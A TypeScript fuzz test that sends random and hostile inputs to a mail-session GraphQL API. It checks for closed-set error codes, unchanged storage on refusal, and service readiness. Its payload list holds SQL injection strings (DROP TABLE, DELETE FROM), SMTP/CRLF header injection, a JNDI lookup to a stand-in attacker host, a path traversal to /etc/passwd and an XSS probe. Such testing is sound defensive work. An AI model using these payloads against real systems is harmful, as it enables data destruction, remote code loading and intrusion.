import fc from 'fast-check';
import { Client } from 'pg';
import { ErrorCode } from '../../src/platform/errors/domain-errors';
import { UPDATE_MAIL_SESSION } from '../api/mail-session.operations';
import { ADMIN_TOKEN, useTestApp } from '../support/test-app';

/**
 * Hostile and careless input for every argument of every operation. Each request must end in
 * an answer (never a hang), with error codes from the closed set and never
 * INTERNAL_SERVER_ERROR, leave the stored settings untouched when refused, and leave the
 * process ready. Run counts are kept modest: each case is a real HTTP request.
 */
const CLOSED_SET = new Set<string>(Object.values(ErrorCode).filter((code) => code !== ErrorCode.INTERNAL_SERVER_ERROR));
const RUNS = { update: 300, arguments: 60, body: 150, contentType: 50 };
const TIMEOUT_MS = 180_000;

const adversarial = fc.oneof(
  fc.string(),
  fc.string({ unit: 'binary', maxLength: 60 }),
  fc.string({ unit: 'grapheme-composite', maxLength: 30 }),
  fc.constantFrom(
    'smtp.example.com\r\nRCPT TO:<victim@example.com>',
    'a\nb',
    'nul\u0000byte',
    "' OR 1=1; DROP TABLE mail_session; --",
    '"; DELETE FROM mail_session_revision; --',
    'X-Injected: yes\r\n\r\nbody',
    '%0d%0aBcc: x@example.com',
    '\u202eevil\u202c',
    '\ufeffbom',
    '𝔪𝔞𝔦𝔩',
    'ｍａｉｌ．ｅｘａｍｐｌｅ',
    '${jndi:ldap://attacker/x}',
    '../../etc/passwd',
    '<script>alert(1)</script>',
    '__proto__',
    'constructor',
    '',
    ' ',
  ),
  fc.nat({ max: 70_000 }).map((n) => 'x'.repeat(n)),
);
const number = fc.oneof(
  fc.integer(),
  fc.double({ noNaN: true, noDefaultInfinity: true }),
  fc.constantFrom(0, -1, 65_536, 2 ** 31, -(2 ** 31) - 1, 2 ** 53, 1e308, -0),
);
const anything = fc.oneof(adversarial, number, fc.boolean(), fc.constant(null), fc.jsonValue({ maxDepth: 2 }));
const field = fc.oneof(
  { weight: 3, arbitrary: anything },
  { weight: 1, arbitrary: fc.constantFrom('smtp.example.com', 587, 'STARTTLS', 'TLS', 'IMAP', 'POP3', true, 'x@example.com') },
);
const extra = fc.dictionary(fc.string({ maxLength: 12 }), anything, { maxKeys: 2 });

const server = (withProtocol: boolean) =>
  fc
    .tuple(
      fc.record(
        {
          host: field,
          port: field,
          security: field,
          user: field,
          password: field,
          clearPassword: field,
          ...(withProtocol ? { protocol: field, deleteAfterFetch: field } : {}),
        },
        { requiredKeys: [] },
      ),
      extra,
    )
    .map(([known, unknown]) => ({ ...unknown, ...known }));

const updateInput = fc.oneof(
  {
    weight: 4,
    arbitrary: fc.record(
      {
        expectedVersion: field,
        outgoing: fc.oneof(server(false), anything),
        incoming: fc.oneof(server(true), anything),
        additionalProperties: fc.oneof(fc.array(fc.record({ key: field, value: field }, { requiredKeys: [] }), { maxLength: 4 }), anything),
        defaultSender: fc.oneof(fc.record({ name: field, address: field }, { requiredKeys: [] }), anything),
      },
      { requiredKeys: [] },
    ),
  },
  { weight: 1, arbitrary: anything },
);

describe('bad input never hurts', () => {
  const t = useTestApp();
  let cases = 0;
  let db: Client | undefined;

  beforeAll(async () => {
    db = new Client({ connectionString: t.db.url });
    // The database is dropped (connections terminated) by useTestApp's afterAll, possibly first.
    db.on('error', () => undefined);
    await db.connect();
  });
  afterAll(() => db?.end());

  /** The whole stored state: the settings row and the history, as text. */
  async function storedState(_db: unknown): Promise<string> {
    if (!db) throw new Error('not connected');
    const { rows } = await db.query<{ state: string }>(
      `SELECT (SELECT row_to_json(s)::text FROM mail_session s) || (SELECT count(*)::text || coalesce(max(version), 0)::text FROM mail_session_revision) AS state`,
    );
    return rows[0]?.state ?? '';
  }

  interface Answer {
    status: number;
    text: string;
  }

  async function post(body: string, contentType = 'application/json'): Promise<Answer> {
    cases++;
    const response = await fetch(t.url, {
      method: 'POST',
      headers: { 'content-type': contentType, authorization: `Bearer ${ADMIN_TOKEN}` },
      body,
      signal: AbortSignal.timeout(10_000),
    });
    return { status: response.status, text: await response.text() };
  }

  /** The answer is JSON; any errors carry codes from the closed set, none of them internal. */
  function expectWellShaped(answer: Answer): { refused: boolean } {
    expect(answer.status).toBeLessThan(500);
    const json = JSON.parse(answer.text) as { data?: Record<string, unknown> | null; errors?: { message: string; extensions?: { code?: unknown } }[] };
    for (const error of json.errors ?? []) {
      expect(CLOSED_SET.has(String(error.extensions?.code))).toBe(true);
      expect(error.message).not.toMatch(/prisma|postgres|stack|at .*\.ts:\d+|\/work\//i);
    }
    const refused = (json.errors?.length ?? 0) > 0;
    return { refused };
  }

  async function expectUnchangedWhenRefused(send: () => Promise<Answer>): Promise<void> {
    const before = await storedState(t.db);
    const answer = await send();
    const { refused } = expectWellShaped(answer);
    if (refused) expect(await storedState(t.db)).toEqual(before);
  }

  async function expectReady(): Promise<void> {
    const ready = await fetch(new URL('/readyz', t.url));
    expect(ready.status).toBe(200);
  }

  afterAll(() => {
    process.stdout.write(`bad-input properties: ${cases} generated requests\n`);
  });

  it(
    'answers any updateMailSession input with a closed-set code and stores nothing when refusing',
    async () => {
      await fc.assert(
        fc.asyncProperty(updateInput, async (input) => {
          await expectUnchangedWhenRefused(() => post(JSON.stringify({ query: UPDATE_MAIL_SESSION, variables: { input } })));
        }),
        { numRuns: RUNS.update },
      );
      await expectReady();
    },
    TIMEOUT_MS,
  );

  it(
    'answers any restoreMailSession and mailSessionHistory arguments with a closed-set code',
    async () => {
      const restore = 'mutation($v: Int!, $e: Int) { restoreMailSession(version: $v, expectedVersion: $e) { mailSession { version } } }';
      const history = 'query($f: Int, $a: String) { mailSessionHistory(first: $f, after: $a) { __typename } }';
      await fc.assert(
        fc.asyncProperty(anything, anything, fc.boolean(), async (a, b, isRestore) => {
          const body = isRestore ? { query: restore, variables: { v: a, e: b } } : { query: history, variables: { f: a, a: b } };
          await expectUnchangedWhenRefused(() => post(JSON.stringify(body)));
        }),
        { numRuns: RUNS.arguments },
      );
      await expectReady();
    },
    TIMEOUT_MS,
  );

  it(
    'answers any importMailSessionProperties text with a closed-set code and stores nothing when refusing',
    async () => {
      const lines = fc.array(
        fc.oneof(
          adversarial,
          fc
            .tuple(
              fc.constantFrom(
                'mail.session.mail.smtp.host',
                'mail.session.mail.smtp.port',
                'mail.session.mail.pop3.password',
                'mail.session.mail.transport.protocol',
                'x',
              ),
              adversarial,
            )
            .map(([k, v]) => `${k}=${v}`),
        ),
        { maxLength: 5 },
      );
      const query = 'mutation($t: String!, $e: Int) { importMailSessionProperties(input: { text: $t, expectedVersion: $e }) { mailSession { version } } }';
      await fc.assert(
        fc.asyncProperty(
          fc.oneof(
            lines.map((l) => l.join('\n')),
            anything,
          ),
          fc.oneof(fc.constant(undefined), anything),
          async (text, expected) => {
            await expectUnchangedWhenRefused(() => post(JSON.stringify({ query, variables: { t: text, e: expected } })));
          },
        ),
        { numRuns: RUNS.arguments },
      );
      await expectReady();
    },
    TIMEOUT_MS,
  );

  it(
    'answers any sendTestEmail recipient and wrongly typed testMailSession input with a closed-set code',
    async () => {
      // A closed local port: a recipient that passes validation fails fast instead of going out.
      const reset = await post(
        JSON.stringify({
          query: UPDATE_MAIL_SESSION,
          variables: { input: { outgoing: { host: '127.0.0.1', port: 9, security: 'NONE', clearPassword: true } } },
        }),
      );
      expect(JSON.parse(reset.text)).not.toHaveProperty('errors');
      await fc.assert(
        fc.asyncProperty(fc.oneof(adversarial, anything, fc.emailAddress()), fc.boolean(), async (value, isSend) => {
          const body = isSend
            ? { query: 'mutation($to: EmailAddress!) { sendTestEmail(input: { to: $to }) { __typename } }', variables: { to: value } }
            : {
                query: 'mutation($i: TestMailSessionInput!) { testMailSession(input: $i) { __typename } }',
                variables: { i: typeof value === 'object' && value !== null ? value : { settings: { outgoing: value } } },
              };
          await expectUnchangedWhenRefused(() => post(JSON.stringify(body)));
        }),
        { numRuns: RUNS.arguments },
      );
      await expectReady();
    },
    TIMEOUT_MS,
  );

  it(
    'answers malformed or unexpected JSON bodies with a closed-set code',
    async () => {
      const body = fc.oneof(
        fc.string(),
        fc.string({ unit: 'binary' }),
        fc.jsonValue().map((v) => JSON.stringify(v)),
        fc.record({ query: anything, variables: anything, operationName: anything, extensions: anything }, { requiredKeys: [] }).map((v) => JSON.stringify(v)),
        fc.constantFrom(
          '',
          '{',
          '{"query": "{ mailSession { version } }"',
          '[]',
          'null',
          '"query"',
          '{"query": "{ __schema { types { name } } }", "variables": "not an object"}',
          '\u0000',
          '{"query": 1e309}',
        ),
      );
      await fc.assert(
        fc.asyncProperty(body, async (text) => {
          await expectUnchangedWhenRefused(() => post(text));
        }),
        { numRuns: RUNS.body },
      );
      await expectReady();
    },
    TIMEOUT_MS,
  );

  it(
    'answers unexpected content types with a closed-set code and never runs a mutation from them',
    async () => {
      const contentType = fc.oneof(
        fc.constantFrom(
          'text/plain',
          'application/x-www-form-urlencoded',
          'multipart/form-data; boundary=x',
          'application/xml',
          'application/json; charset=latin1',
          'application/graphql',
          'application/json\r\nX-Injected: 1',
          '*/*',
        ),
        fc.stringMatching(/^[a-z]{1,10}\/[a-z+.-]{1,15}$/),
      );
      const mutation = JSON.stringify({ query: UPDATE_MAIL_SESSION, variables: { input: { defaultSender: { name: 'from a form' } } } });
      await fc.assert(
        fc.asyncProperty(contentType, async (type) => {
          if (/[\r\n]/.test(type)) return; // fetch itself refuses such a header
          const before = await storedState(t.db);
          const answer = await post(mutation, type);
          const { refused } = expectWellShaped(answer);
          if (!/^application\/json\b/.test(type)) {
            expect(refused).toBe(true);
            expect(await storedState(t.db)).toEqual(before);
          }
        }),
        { numRuns: RUNS.contentType },
      );
      await expectReady();
    },
    TIMEOUT_MS,
  );
});
